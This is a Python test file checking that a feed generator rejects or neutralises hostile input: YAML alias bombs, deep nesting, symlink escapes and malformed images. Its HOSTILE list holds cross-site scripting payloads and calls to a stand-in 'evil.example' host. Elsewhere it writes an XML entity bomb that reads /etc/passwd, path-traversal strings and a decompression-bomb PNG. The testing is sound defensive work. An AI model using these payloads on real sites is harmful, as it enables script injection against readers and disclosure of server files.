"""Input that is broken or hostile: a clear error, or made harmless; never a crash, never a bad feed.

Whatever happens to one article, the others are published, and of the broken one the last good
version stays.
"""

from __future__ import annotations

import json
import os
import re
import resource
import shutil
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable, Iterator, Sequence
from io import BytesIO
from pathlib import Path
from random import Random
from tempfile import TemporaryDirectory
from typing import Any

import pytest
from lxml import etree
from PIL import Image

from conftest import CONFIG, NOW, Publication, slow
from feedwright.errors import ArticleError
from feedwright.pipeline import Report

STORY = "news/story.md"
HEADER = "---\ntitle: A story\ndate: 2026-11-20\n"
AN_ISO_DATE = "a date such as 2022-03-18, 2022-03-18 14:30 or 2022-03-18T14:30:00+01:00"


def cpu_bound(seconds: int = 10) -> dict[str, Any]:
    """Options for a process that ends when it, or one of its copies, has had so much processor time.

    However busy the machine is, that is the same.
    """
    return {"preexec_fn": lambda: resource.setrlimit(resource.RLIMIT_CPU, (seconds, seconds))}


def build_apart(publication: Publication) -> Report:
    """Builds in a process of its own: a crash or an endless run there is a failed test, no more."""
    command = [sys.executable, "-m", "feedwright", "build", "--json", "--now", NOW.isoformat()]
    done = subprocess.run(
        [*command, "--config", str(publication.config)],
        capture_output=True,
        text=True,
        check=False,
        **cpu_bound(),
    )
    assert done.returncode in (0, 1), done.stderr
    found: dict[str, Any] = json.loads(done.stdout)
    report = Report(found["articles"], found["ignored"], found["files"], found["changed"])
    for error in found["rejected"]:
        del error["message"]
        report.rejected.append(ArticleError(**error))
    for warning in found["warnings"]:
        report.warn(warning["path"], warning["message"])
    assert done.returncode == bool(report.rejected)
    return report


def said(report: Report) -> list[str]:
    return [str(error) for error in report.rejected]


def warned(report: Report) -> list[str]:
    return [str(notice) for notice in report.warnings]


def snapshot(publication: Publication) -> dict[str, tuple[bytes, int]]:
    """Every published file's bytes and time of change."""
    files = (file for file in sorted(publication.feeds.rglob("*")) if file.is_file())
    return {str(file): (file.read_bytes(), file.stat().st_mtime_ns) for file in files}


def assert_well_formed(publication: Publication) -> None:
    for file in publication.feeds.rglob("*.xml"):
        etree.parse(file)


def same(said: list[str], errors: Sequence[str]) -> bool:
    patterns = (re.escape(error).replace("LINE", r"\d+") for error in errors)
    assert [re.sub(r":\d+:", ":LINE:", one) for one in said] == [
        re.sub(r":\d+:", ":LINE:", one) for one in errors
    ]
    return all(re.fullmatch(pattern, one) for pattern, one in zip(patterns, said, strict=True))


Break = Callable[[Publication], object]


def assert_rejected(publication: Publication, break_it: Break, *errors: str, apart: bool = False) -> None:
    """A good article is published; once broken, it is rejected with `errors` and nothing is touched.

    In `errors`, LINE is any line.
    """

    def build() -> Report:
        return build_apart(publication) if apart else publication.build()

    publication.article("news/other.md", title="Another story")
    publication.article(STORY)
    assert not publication.build().rejected
    before = snapshot(publication)
    (publication.content / STORY).unlink()
    break_it(publication)
    report = build()
    assert same(said(report), errors)
    assert report.changed == []
    assert sorted(publication.titles("news")) == ["A story", "Another story"]
    assert snapshot(publication) == before
    # The others go on.
    publication.article("news/third.md", title="A third story")
    assert same(said(build()), errors)
    assert sorted(publication.titles("news")) == ["A story", "A third story", "Another story"]


def writes(text: str | bytes) -> Break:
    return lambda publication: publication.write(STORY, text)


# --- what is in a file ---

QUOTED = "quotation marks around text that begins with * (YAML's aliases are not allowed)"
ALIASES = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{name}: &{name} [{', '.join([f'*{before}'] * 9)}]\n"
    for before, name in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize(
    ("text", "error"),
    [
        pytest.param(
            f"{HEADER}tags: [a, b\n---\nHello.",
            ":4: found a `[` without its `]`, expected both, around the whole list",
            id="invalid YAML",
        ),
        pytest.param(
            f"{HEADER}\ttags: a\n---\nHello.",
            ":4: found a tab at the beginning of the line, expected blanks instead of the tab",
            id="a tab before a key",
        ),
        pytest.param(
            "---\n- title\n- date\n---\nHello.",
            ":2: found a list, expected keys with values without dashes before them, "
            "such as `title: A title`",
            id="front matter that is a list",
        ),
        pytest.param(
            f"{HEADER}tags: *storms\n---\n",
            f":4: found the alias *storms, expected {QUOTED}",
            id="a YAML alias",
        ),
        pytest.param(
            f"---\n{ALIASES}title: *i\n---\n",
            f":3: found the alias *a, expected {QUOTED}",
            id="YAML alias bomb",
        ),
        pytest.param(
            f"{HEADER}x: {'y' * 300_000}\n---\n",
            ":2: found 300036 characters, expected at most 262144 characters of YAML",
            id="huge front matter",
        ),
        pytest.param(
            f"{HEADER}Hello.\n",
            ":1: expected a line `---` that closes the front matter",
            id="unclosed front matter",
        ),
        pytest.param(
            f"{HEADER}---\nHello,\n".encode() + b"\x89PNG\r\n\x1a\n\0\0",
            ":6: found the byte 0x89, expected text in UTF-8",
            id="no text at all",
        ),
        pytest.param(
            f"{HEADER}---\nHello".encode("utf-16")[:-1],
            ":1: found the byte 0xFF, expected text in UTF-8",
            id="half a character in UTF-16",
        ),
        pytest.param(b"", ": found an empty file, expected an article", id="empty"),
        pytest.param(" \n\t\n", ": found an empty file, expected an article", id="only blanks"),
        pytest.param("\0" * 100, ": found an empty file, expected an article", id="only NUL bytes"),
        pytest.param(
            "---\n---\n",
            f": date: found none, expected {AN_ISO_DATE}; "
            "also title: found none, expected a `title`, or a heading above the text",
            id="empty front matter",
        ),
    ],
)
def test_text_that_is_no_article(publication: Publication, text: str | bytes, error: str) -> None:
    assert_rejected(publication, writes(text), f"content/{STORY}{error}")


@pytest.mark.parametrize(
    ("typed", "warning"),
    [
        (
            "link: https://example.org:port/",
            'line 4: link: found "https://example.org:port/", expected a complete URL such as https://example.org/',
        ),
        (
            f"image: {{src: 'https://example.org/a.jpg', length: {'9' * 20}}}",
            f'line 4: image.length: found "{"9" * 20}", expected a size such as 500 KB or 2 MB',
        ),
    ],
    ids=["a link with an impossible port", "a length of more than 64 bits"],
)
def test_a_value_that_no_feed_can_hold_is_left_out(
    publication: Publication, typed: str, warning: str
) -> None:
    publication.write(STORY, f"{HEADER}{typed}\n---\n\nHello.\n")
    report = publication.build()
    assert report.rejected == []
    assert f"content/{STORY}: {warning}; left out" in map(str, report.warnings)
    assert publication.titles("news")


@pytest.mark.parametrize(
    "deep",
    [
        pytest.param("[" * 100_000, id="lists", marks=slow),
        pytest.param("[" * 100_000 + "]" * 100_000, id="lists, closed", marks=slow),
        pytest.param("{a: " * 60_000, id="mappings", marks=slow),
        pytest.param("\n  " + "- " * 100_000 + "a", id="lists by indentation"),
    ],
)
def test_deep_nesting(publication: Publication, deep: str) -> None:
    text = f"{HEADER}x: {deep}\n---\n"
    error = f"content/{STORY}:LINE: found more than 50 levels, expected lists and mappings a few levels deep"
    assert_rejected(publication, writes(text), error, apart=True)


@pytest.mark.parametrize(
    "key",
    [
        "date",
        "half\\ud800",
        *(pytest.param(key, marks=slow) for key in ("id", "link", "slug", "summary", "tags", "title")),
    ],
)
def test_half_a_character_in_json_stops_nobody(publication: Publication, key: str) -> None:
    """JSON can say what no text can hold: one of the two surrogates of UTF-16."""
    keys = {"title": '"A story"', "date": '"2026-11-20"'} | {key: '"x\\ud800y"'}
    publication.article("news/other.md", title="Another story")
    publication.write(
        STORY, "{" + ", ".join(f'"{name}": {value}' for name, value in keys.items()) + "}\n\nHello.\n"
    )
    report = build_apart(publication)
    assert "Another story" in publication.titles("news")
    assert len(report.rejected) + len(publication.titles("news")) == 2


@pytest.mark.parametrize("path", ["news/_section.yaml", "../config.yaml"])
def test_deep_nesting_elsewhere(publication: Publication, path: str) -> None:
    publication.article()
    publication.write(path, "x: " + "[" * 100_000 + "]" * 100_000)
    command = [sys.executable, "-m", "feedwright", "build", "--config", str(publication.config)]
    done = subprocess.run(command, capture_output=True, text=True, check=False, **cpu_bound())
    assert done.returncode == (2 if "config" in path else 1)
    assert ": found more than 50 levels, expected lists and mappings a few levels deep" in done.stderr


def sparse(path: str, length: int = 50_000_000) -> Break:
    def write(publication: Publication) -> None:
        with publication.write(path, "").open("r+b") as file:
            file.truncate(length)

    return write


def test_a_50_mb_file(publication: Publication) -> None:
    error = f"content/{STORY}: found a file of 50.0 MB, expected at most 8 MB"
    assert_rejected(publication, sparse(STORY), error)


def test_a_50_mb_section_file(publication: Publication) -> None:
    publication.article()
    sparse("news/_section.yaml")(publication)
    report = publication.build()
    assert said(report) == ["content/news/_section.yaml: found a file of 50.0 MB, expected at most 8 MB"]
    assert publication.titles("news") == ["A story"]


def same_as_plain(publication: Publication, data: bytes) -> Report:
    """Builds with the story written as `data`; its feeds must be those of the plain story."""
    publication.article("news/other.md", title="Another story")
    publication.write(STORY, f"{HEADER}---\n\nOne.\n\nTwo.\n")
    publication.build()
    before = snapshot(publication)
    publication.write(STORY, data)
    report = publication.build()
    assert not report.rejected
    assert snapshot(publication) == before
    return report


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(f"\ufeff{HEADER}---\n\nOne.\n\nTwo.\n".encode(), id="byte order mark"),
        pytest.param(f"{HEADER}---\n\nOne.\n\nTwo.\n".replace("\n", "\r\n").encode(), id="CRLF"),
        pytest.param(f"{HEADER}---\n\nOne.\n\nTwo.\n".replace("\n", "\r").encode(), id="lone CR"),
        pytest.param(f"{HEADER}---\n\nOne.\r\n\r\nTwo.".encode(), id="mixed"),
    ],
)
def test_line_ends_and_byte_order_marks_make_no_difference(publication: Publication, data: bytes) -> None:
    assert not same_as_plain(publication, data).warnings


@pytest.mark.parametrize(
    "control",
    ["\0", "\x01", "\x08", "\x0b", "\x0c", "\x1b[1m"[0], "\x7f", "\x80", "\x9f", "\ufffe", "\uffff"],
)
def test_control_characters_are_removed_with_a_warning(publication: Publication, control: str) -> None:
    text = f"{HEADER}---\n\nOn{control}e.\n\nTwo.\n".replace("A story", f"A st{control}ory")
    report = same_as_plain(publication, text.encode())
    assert warned(report) == [f"content/{STORY}: control characters were removed; the first was in line 2"]


@pytest.mark.parametrize("escape", [r"\0", r"\x07", r"\x9f", r"\uFFFE"])
def test_control_characters_in_yaml_escapes_never_reach_a_feed(publication: Publication, escape: str) -> None:
    publication.article(title=f'"A {escape}story"', tags=f'["a{escape}b"]', summary=f'"S{escape}"')
    assert not publication.build().rejected
    assert publication.titles("news") == ["A story"]
    assert_well_formed(publication)


def test_a_title_of_10_000_characters(publication: Publication) -> None:
    title = "Storm " * 1666 + "over"
    publication.article(title=title)
    assert not publication.build().rejected
    assert publication.titles("news") == [title]
    assert publication.rss("news").entries[0].title == title
    assert publication.atom("news").entries[0].title == title


# --- hostile markup ---

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<p onclick='alert(1)'>x</p>",
    "<img src=x onerror=alert(1)>",
    "<img/src='a.jpg'/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img srcset='javascript:alert(1) 2x, data:x 1x'>",
    "<video poster='javascript:alert(1)' src='javascript:alert(1)'></video>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/'></object><embed src='https://evil.example/'>",
    "<form action='https://evil.example/'><input name=password></form>",
    "<style>body { background: url(https://evil.example/) }</style>",
    "<p style='background: url(https://evil.example/)'>x</p>",
    "<base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0; url=https://evil.example/'>",
    "<svg><script>alert(1)</script></svg><math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<p>unclosed <b <script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
]
UNSAFE_TAGS = {
    *("script", "style", "iframe", "object", "embed", "form", "input"),
    *("base", "link", "meta", "svg", "noscript", "template"),
}


def unsafe(content: str) -> list[str]:
    """What a browser would find in this HTML that it had better not."""
    page = etree.HTML(f"<div>{content}</div>")
    found = [str(element.tag) for element in page.iter() if element.tag in UNSAFE_TAGS]
    for element in page.iter():
        for name, value in element.attrib.items():
            scheme = "".join(str(value).split()).partition(":")[0].lower()
            if str(name).startswith(("on", "style")) or scheme in ("javascript", "vbscript", "data"):
                found.append(f"{name!s}={value!s}")
            # A link is followed only by who clicks on it: what an object shows becomes one.
            is_link = (element.tag, name, scheme) == ("a", "href", "https")
            if ("evil.example" in str(value) and not is_link) or "javascript:" in str(value):
                found.append(f"{name!s}={value!s}")
    return found


@pytest.mark.parametrize("markup", HOSTILE)
@pytest.mark.parametrize("suffix", [".html", ".md"])
def test_unsafe_html_never_reaches_a_feed(publication: Publication, suffix: str, markup: str) -> None:
    publication.article(f"news/story{suffix}", body=f"<p>Before.</p>\n\n{markup}\n\n<p>After.</p>")
    assert not publication.build().rejected
    assert_well_formed(publication)
    for content in (
        publication.json("news")["items"][0]["content_html"],
        publication.rss("news").entries[0].content[0].value,
        publication.atom("news").entries[0].content[0].value,
    ):
        assert "Before." in content
        assert unsafe(content) == []


def test_a_page_that_declares_entities_expands_none(publication: Publication) -> None:
    bomb = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">\n' for n in range(1, 10))
    publication.write(
        "news/story.html",
        f'{HEADER}---\n<!DOCTYPE html [\n<!ENTITY l0 "lol">\n<!ENTITY x SYSTEM "file:///etc/passwd">\n{bomb}]>\n'
        "<html><body><p>&l9; &x; &amp;</p></body></html>",
    )
    report = build_apart(publication)
    assert not report.rejected
    content = publication.json("news")["items"][0]["content_html"]
    assert content == "<p>&amp;l9; &amp;x; &amp;</p>"
    assert_well_formed(publication)


MANY = 1_000_000
BLANKS = " \t" * 1100_000


@pytest.mark.parametrize(
    "body",
    [
        pytest.param("[" * 10_000 + ">" * 10_000 + "*a " * 5_000 + "x" * 965_000, id="one line of all"),
        pytest.param("[" * MANY, id="brackets", marks=slow),
        pytest.param("> " * 10_000 + "a", id="quotes in quotes", marks=slow),
        pytest.param("- " * 5_000 + "a", id="lists in lists", marks=slow),
        pytest.param("*a " * (MANY // 3), id="open emphasis", marks=slow),
        pytest.param("**a *b " * (MANY // 7), id="open emphasis in strong", marks=slow),
        pytest.param("`" * MANY, id="backticks"),
        pytest.param("![" * (MANY // 2), id="pictures in pictures", marks=slow),
        pytest.param("[a](" * (MANY // 4), id="open links", marks=slow),
        pytest.param("<a " * (MANY // 3), id="open tags"),
        pytest.param("<!-- " * (MANY // 5), id="open comments", marks=slow),
        pytest.param("<div>" * 10_000, id="elements in elements", marks=slow),
    ],
)
def test_pathological_markdown_takes_no_time(publication: Publication, body: str) -> None:
    publication.article("news/other.md", title="Another story")
    publication.article(body=body)
    assert not build_apart(publication).rejected
    assert sorted(publication.titles("news")) == ["A story", "Another story"]
    assert_well_formed(publication)


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("---\ndate: 2026-11-20\n---\n" + "<h1>" * 50_000 + "</h2>", id="open headings"),
        pytest.param("---\ndate: 2026-11-20\n---\n" + "<h1 " * 100_000, id="open heading tags", marks=slow),
        pytest.param(
            f"---\ndate: 2026-11-20\n---\n<h1>{'<' * 200_000}</h1>", id="heading of brackets", marks=slow
        ),
        pytest.param(HEADER + "---\n" + "<body " * 70_000, id="open body tags", marks=slow),
        pytest.param(
            f"---\ndate: 2026-11-20\n---\n{'<title>' * 50_000}<body><h1>A story</h1>",
            id="open titles",
            marks=slow,
        ),
        pytest.param(f"{HEADER}x: a{BLANKS}b\n---\nHello.", id="blanks and tabs in front matter", marks=slow),
        pytest.param(f'{HEADER}---\n<img srcset="{" " * 200_000}a b c">', id="blanks in srcset", marks=slow),
        pytest.param(f'{HEADER}---\n<img srcset="{"a " * 200_000}">', id="words in srcset", marks=slow),
        pytest.param(f"{HEADER}updated: 2022 {'1 ' * 100_000}\n---\n", id="a long date", marks=slow),
        pytest.param(HEADER + "---\n" + "<p " * (MANY // 3), id="open paragraphs", marks=slow),
        pytest.param(HEADER + "---\n" + "<table><tr><td>" * 10_000, id="tables in tables", marks=slow),
        pytest.param(HEADER + "---\n" + "<div>" * 100_000, id="elements in elements", marks=slow),
        pytest.param(HEADER + "---\n" + "<b><p>" * 20_000, id="formatting to be adopted"),
    ],
)
def test_pathological_html_takes_no_time(publication: Publication, text: str) -> None:
    publication.article("news/other.md", title="Another story")
    publication.write("news/story.html", text)
    build_apart(publication)
    assert "Another story" in publication.titles("news")
    assert_well_formed(publication)


# --- files that are no files, or not what they seem ---


def link(path: str, target: str) -> Break:
    def make(publication: Publication) -> None:
        (publication.content / path).symlink_to(target)

    return make


def test_a_folder_named_like_a_file(publication: Publication) -> None:
    def make(publication: Publication) -> None:
        publication.article(f"{STORY}/inside.md")

    error = f"content/{STORY}: found a folder, expected a file, because its name ends like that of an article"
    assert_rejected(publication, make, error)


def test_a_folder_named_like_a_bundles_index(publication: Publication) -> None:
    publication.article("news/other.md", title="Another story")
    publication.build()
    (publication.content / "news/index.md").mkdir()
    report = publication.build()
    assert said(report) == [
        "content/news/index.md: found a folder, expected a file, "
        "because its name ends like that of an article"
    ]
    assert publication.titles("news") == ["Another story"]


def test_a_pipe_named_like_an_article(publication: Publication) -> None:
    def make(publication: Publication) -> None:
        os.mkfifo(publication.content / STORY)

    error = f"content/{STORY}: found something else (a device, socket or pipe), expected a file"
    assert_rejected(publication, make, error, apart=True)


def test_a_pipe_for_a_section_file(publication: Publication) -> None:
    publication.article()
    os.mkfifo(publication.content / "news/_section.yaml")
    [error] = said(build_apart(publication))
    assert error.startswith("content/news/_section.yaml: ")
    assert publication.titles("news") == ["A story"]


def test_a_pipe_for_a_picture(publication: Publication) -> None:
    publication.article(image="lead.jpg")
    os.mkfifo(publication.content / "news/lead.jpg")
    report = build_apart(publication)
    assert warned(report) == [f"content/{STORY}: image: lead.jpg is missing; left out"]


OUTSIDE = (
    "found a link to a file outside, expected a file inside the folder of config.yaml, "
    "or articles.follow_links: true in config.yaml"
)


def test_a_link_out_of_content(publication: Publication, tmp_path: Path) -> None:
    secret = tmp_path.with_name(f"{tmp_path.name}-secret.md")
    secret.write_text(f"{HEADER}---\nSecret.")
    error = f"content/{STORY}: {OUTSIDE}"
    assert_rejected(publication, link(STORY, str(secret)), error)


def test_a_relative_link_out_of_content(publication: Publication, tmp_path: Path) -> None:
    secret = tmp_path.with_name(f"{tmp_path.name}-secret.md")
    secret.write_text(f"{HEADER}---\nSecret.")
    error = f"content/{STORY}: {OUTSIDE}"
    assert_rejected(publication, link(STORY, f"../../../{secret.name}"), error)


def test_a_section_file_that_is_a_link_out_of_content(publication: Publication, tmp_path: Path) -> None:
    publication.article()
    secret = tmp_path.with_name(f"{tmp_path.name}-secret.yaml")
    secret.write_text("title: Secret\n")
    link("news/_section.yaml", str(secret))(publication)
    assert said(publication.build()) == [f"content/news/_section.yaml: {OUTSIDE}"]
    assert publication.json("news")["title"] == "News – The Test Post"


def test_a_link_inside_content_is_fine(publication: Publication) -> None:
    publication.article("news/original.md")
    link("news/copy.md", "original.md")(publication)
    report = publication.build()
    assert not report.rejected
    assert publication.titles("news") == ["A story", "A story"]


def test_a_link_to_nothing(publication: Publication) -> None:
    error = f"content/{STORY}: found a broken link, expected a file"
    assert_rejected(publication, link(STORY, "nowhere.md"), error)


def test_a_folder_that_is_a_link_to_nothing_is_said_and_keeps_what_it_published(
    publication: Publication,
) -> None:
    """A disk that is not mounted: links have led to it, or lead to it now."""
    publication.article()
    publication.build()
    before = snapshot(publication)
    shutil.rmtree(publication.content / "news")
    (publication.content / "news").symlink_to("/mnt/not-mounted")
    assert said(publication.build()) == ["content/news: found a broken link, expected a folder"]
    assert snapshot(publication) == before


def test_a_link_to_itself(publication: Publication) -> None:
    error = f"content/{STORY}: found a broken link, expected a file"
    assert_rejected(publication, link(STORY, "story.md"), error)


@pytest.mark.parametrize("name", ["news/loop", "loop", "news/loop.jpg", "news/bundle/loop.jpg"])
def test_a_link_to_itself_that_is_no_article(publication: Publication, name: str) -> None:
    publication.article()
    publication.article("news/bundle/index.md", title="A bundle")
    link(name, Path(name).name)(publication)
    publication.build()
    assert sorted(publication.titles("news")) == ["A bundle", "A story"]


@pytest.mark.parametrize("target", ["..", "../sport"])
def test_a_link_to_a_folder(publication: Publication, target: str) -> None:
    publication.article()
    publication.article("sport/match.md", title="A match")
    link("news/more", target)(publication)
    report = publication.build()
    assert said(report) == [
        "content/news/more: found a link to one (its articles would be published twice), expected a folder"
    ]
    assert sorted(publication.titles()) == ["A match", "A story"]


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        (b"news/caf\xe9.md", "content/news/caf?.md"),
        (b"caf\xe9.md", "content/caf?.md"),
        (b"caf\xe9", "content/caf?"),
    ],
)
def test_a_name_that_is_not_utf8(publication: Publication, name: bytes, shown: str) -> None:
    publication.article()
    with open(os.fsencode(publication.content) + b"/" + name, "w") as file:
        file.write(f"{HEADER}---\n")
    report = publication.build()
    assert said(report) == [f"{shown}: found other bytes, expected a file name in UTF-8"]
    assert publication.titles() == ["A story"]


@pytest.mark.parametrize(
    "name", ["two\nlines.md", "tab\t.md", "a\x1bb.md", "<b>&.md", "a'b\"c.md", "%2e%2e.md"]
)
def test_odd_names_are_only_names(publication: Publication, name: str) -> None:
    publication.article(f"news/{name}")
    assert not publication.build().rejected
    assert publication.titles() == ["A story"]
    assert_well_formed(publication)


# --- what may not be read ---


BUILD_AS_NOBODY = """
import json, os, shutil, sys
from datetime import datetime
import feedwright
folder, now = sys.argv[1], datetime.fromisoformat(sys.argv[2])
if os.getuid() == 0:
    # A run for practice: afterwards everything is imported, wherever Python is installed.
    shutil.copytree(folder, folder + "/practice", symlinks=True)
    feedwright.build(folder + "/practice/config.yaml", now=now)
    shutil.rmtree(folder + "/practice")
    os.setgroups([]); os.setgid(65534); os.setuid(65534)
report = feedwright.build(folder + "/config.yaml", now=now)
print(json.dumps([str(error) for error in report.rejected]))
"""


def build_as_nobody(publication: Publication) -> list[str]:
    """What a build says of somebody who is not root, and whom permissions stop."""
    if os.getuid() == 0:
        for path in (publication.root, *publication.root.rglob("*")):
            os.chown(path, 65534, 65534)
    done = subprocess.run(
        [sys.executable, "-c", BUILD_AS_NOBODY, str(publication.root), NOW.isoformat()],
        capture_output=True,
        text=True,
        timeout=30,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    errors: list[str] = json.loads(done.stdout)
    return errors


@pytest.fixture
def public() -> Iterator[Publication]:
    """A publication where everybody can get to (pytest's own folders are for one user only)."""
    with TemporaryDirectory() as folder:
        Path(folder).chmod(0o755)
        yield Publication(Path(folder))


@pytest.mark.parametrize(
    ("path", "mode", "error"),
    [
        pytest.param(
            STORY, 0o000, f"content/{STORY}: found Permission denied, expected a readable file", id="file"
        ),
        pytest.param(
            "news",
            0o000,
            "content/news: found Permission denied, expected a folder that can be read",
            id="folder",
        ),
        pytest.param(
            "news",
            0o644,
            "content/news: found Permission denied, expected a folder that can be read",
            id="folder that may be listed but not entered",
        ),
    ],
)
def test_what_may_not_be_read_stays_published(public: Publication, path: str, mode: int, error: str) -> None:
    public.article()
    public.article("sport/match.md", title="A match")
    public.build()
    before = snapshot(public)
    locked = public.content / path
    locked.chmod(mode)
    try:
        assert build_as_nobody(public) == [error]
    finally:
        locked.chmod(0o755)
    assert snapshot(public) == before


def test_a_picture_that_may_not_be_read_is_left_out(public: Publication) -> None:
    public.article(image="lead.jpg")
    public.write("news/lead.jpg", picture()).chmod(0o000)
    assert build_as_nobody(public) == []
    assert public.titles() == ["A story"]


def test_no_content_at_all_empties_no_feed(publication: Publication) -> None:
    """A disk that is not mounted, say."""
    publication.article()
    publication.build()
    before = snapshot(publication)
    publication.content.rename(publication.root / "elsewhere")
    assert said(publication.build()) == ["content: found no such folder, expected a folder that can be read"]
    assert snapshot(publication) == before


def test_a_folder_for_a_section_file(publication: Publication) -> None:
    publication.article()
    (publication.content / "news/_section.yaml").mkdir()
    assert said(publication.build()) == ["content/news/_section.yaml: found a folder, expected a file"]
    assert publication.titles("news") == ["A story"]


# --- pictures ---


def picture(kind: str = "JPEG", **options: Any) -> bytes:
    file = BytesIO()
    Image.frombytes("RGB", (64, 48), Random(1).randbytes(64 * 48 * 3)).save(file, kind, **options)
    return file.getvalue()


def png_header(width: int, height: int) -> bytes:
    """A PNG of which the header promises that many pixels, and there is nothing else."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


DDS = b"DDS " + struct.pack("<19I", 124, 0x1007, 8, 8, *[0] * 14, 32) + bytes(48)

SOUND = b"ID3\x03\0\0\0\0\0\0" + b"\xff\xfb\x90\0" * 50
NO_MEDIA = "lead.jpg is not a picture, audio or video file that feeds can contain"
BROKEN = "lead.jpg cannot be opened: it is cut off, broken, or has too many pixels; save it again"
NOT_SHOWN = "lead.jpg is a {} picture, which most readers cannot show; save it as JPEG, PNG or WebP"


@pytest.mark.parametrize(
    ("data", "problem"),
    [
        pytest.param(b"", "lead.jpg is an empty file", id="empty"),
        pytest.param(b"Just some text.\n" * 10, NO_MEDIA, id="text"),
        pytest.param(b"<!DOCTYPE html><title>404 not found</title>", NO_MEDIA, id="a web page"),
        pytest.param(b"In this text we say how to write <svg> in a page.", NO_MEDIA, id="text that says svg"),
        pytest.param(SOUND, "lead.jpg is audio/mpeg, expected a picture", id="audio"),
        pytest.param(b"%PDF-1.7\n", "lead.jpg is application/pdf, expected a picture", id="a document"),
        pytest.param(picture()[:20], BROKEN, id="JPEG without a size"),
        pytest.param(png_header(100_000, 100_000), BROKEN, id="decompression bomb"),
        pytest.param(picture("BMP"), NOT_SHOWN.format("BMP"), id="a format that readers do not show"),
        pytest.param(DDS, NOT_SHOWN.format("DDS"), id="broken DDS"),
        pytest.param(picture("AVIF").replace(b"pitm", b"free"), BROKEN, id="broken AVIF"),
    ],
)  # fmt: skip
def test_what_is_no_picture_is_left_out(publication: Publication, data: bytes, problem: str) -> None:
    publication.article("news/other.md", title="Another story")
    publication.article(image="lead.jpg")
    publication.write("news/lead.jpg", data)
    report = publication.build()
    assert not report.rejected
    assert warned(report) == [f"content/{STORY}: image: {problem}; left out"]
    assert sorted(publication.titles("news")) == ["A story", "Another story"]
    assert "attachments" not in publication.json("news")["items"][0]
    assert not (publication.feeds / "media").exists()


BROKEN_EXIF = b"Exif\0\0II*\0\x08\0\0\0\x02\0\x12\x01\x03\0\xff\xff\0\0\x01\0"


@pytest.mark.parametrize(
    ("data", "kind", "width"),
    [
        pytest.param(picture()[:1500], "image/jpeg", 64, id="JPEG cut short"),
        pytest.param(picture() + b"more", "image/jpeg", 64, id="JPEG with a tail"),
        pytest.param(picture(exif=BROKEN_EXIF), "image/jpeg", 64, id="JPEG with broken EXIF"),
        pytest.param(picture("PNG")[:200], "image/png", 64, id="PNG cut short"),
        pytest.param(picture("WEBP"), "image/webp", 64, id="WebP by another name"),
        pytest.param(png_header(12_000, 12_000), "image/png", 12_000, id="large PNG"),
    ],
)
def test_a_pictures_type_and_size_come_from_its_header(
    publication: Publication, data: bytes, kind: str, width: int
) -> None:
    publication.article(image="lead.jpg")
    publication.write("news/lead.jpg", data)
    report = publication.build()
    assert (said(report), warned(report)) == ([], [])
    [attachment] = publication.json("news")["items"][0]["attachments"]
    published = picture() if data.startswith(b"\xff\xd8") and len(data) > len(picture()) else data
    assert (attachment["mime_type"], attachment["size_in_bytes"]) == (kind, len(published))
    assert publication.bytes(attachment["url"].removeprefix("https://feeds.example.org/")) == published
    [shown] = publication.rss("news").entries[0].media_content
    assert int(shown["width"]) == width


@pytest.mark.parametrize(
    ("src", "problem"),
    [
        ("lead.jpg", "lead.jpg is missing"),
        ("pictures/", "pictures/ is missing"),
        ("..", ".. is missing"),
        ("../../secret.jpg", "../../secret.jpg is outside content/"),
        ("../../../../../../../../etc/passwd", "../../../../../../../../etc/passwd is outside content/"),
        ("%2e%2e/%2e%2e/secret.jpg", "%2e%2e/%2e%2e/secret.jpg is outside content/"),
        ("/etc/passwd", "/etc/passwd is missing"),
        ("/../secret.jpg", "/../secret.jpg is outside content/"),
        ("out.jpg", "out.jpg is outside content/"),
        ("loop.jpg", None),
        ("x" * 5000, None),
        ("file:///etc/passwd", "file:///etc/passwd is not a URL that readers can fetch"),
        ("javascript:alert(1)", "javascript:alert(1) is not a URL that readers can fetch"),
        ("data:image/png;base64,AAAA", "data:image/png;base64,AAAA is not a URL that readers can fetch"),
        ("ftp://example.org/a.jpg", "ftp://example.org/a.jpg is not a URL that readers can fetch"),
        ("https://[::1/a.jpg", "https://[::1/a.jpg is not a URL that readers can fetch"),
    ],
)
@pytest.mark.parametrize("where", ["image", "body"])
def test_a_picture_that_is_not_there_or_not_ours(
    publication: Publication, where: str, src: str, problem: str | None
) -> None:
    secret = publication.root.with_name(f"{publication.root.name}-secret.jpg")
    secret.write_bytes(picture())
    publication.article("news/other.md", title="Another story")
    (publication.content / "news/pictures").mkdir()
    link("news/out.jpg", f"../../../{secret.name}")(publication)
    if src == "loop.jpg":
        link("news/loop.jpg", src)(publication)
    if where == "image":
        publication.article(image=f'"{src}"')
    else:
        publication.article(body=f'<img src="{src}" alt="A wave">')
    report = publication.build()
    assert not report.rejected
    if where == "image":
        [warning] = warned(report)
        assert warning.endswith("; left out")
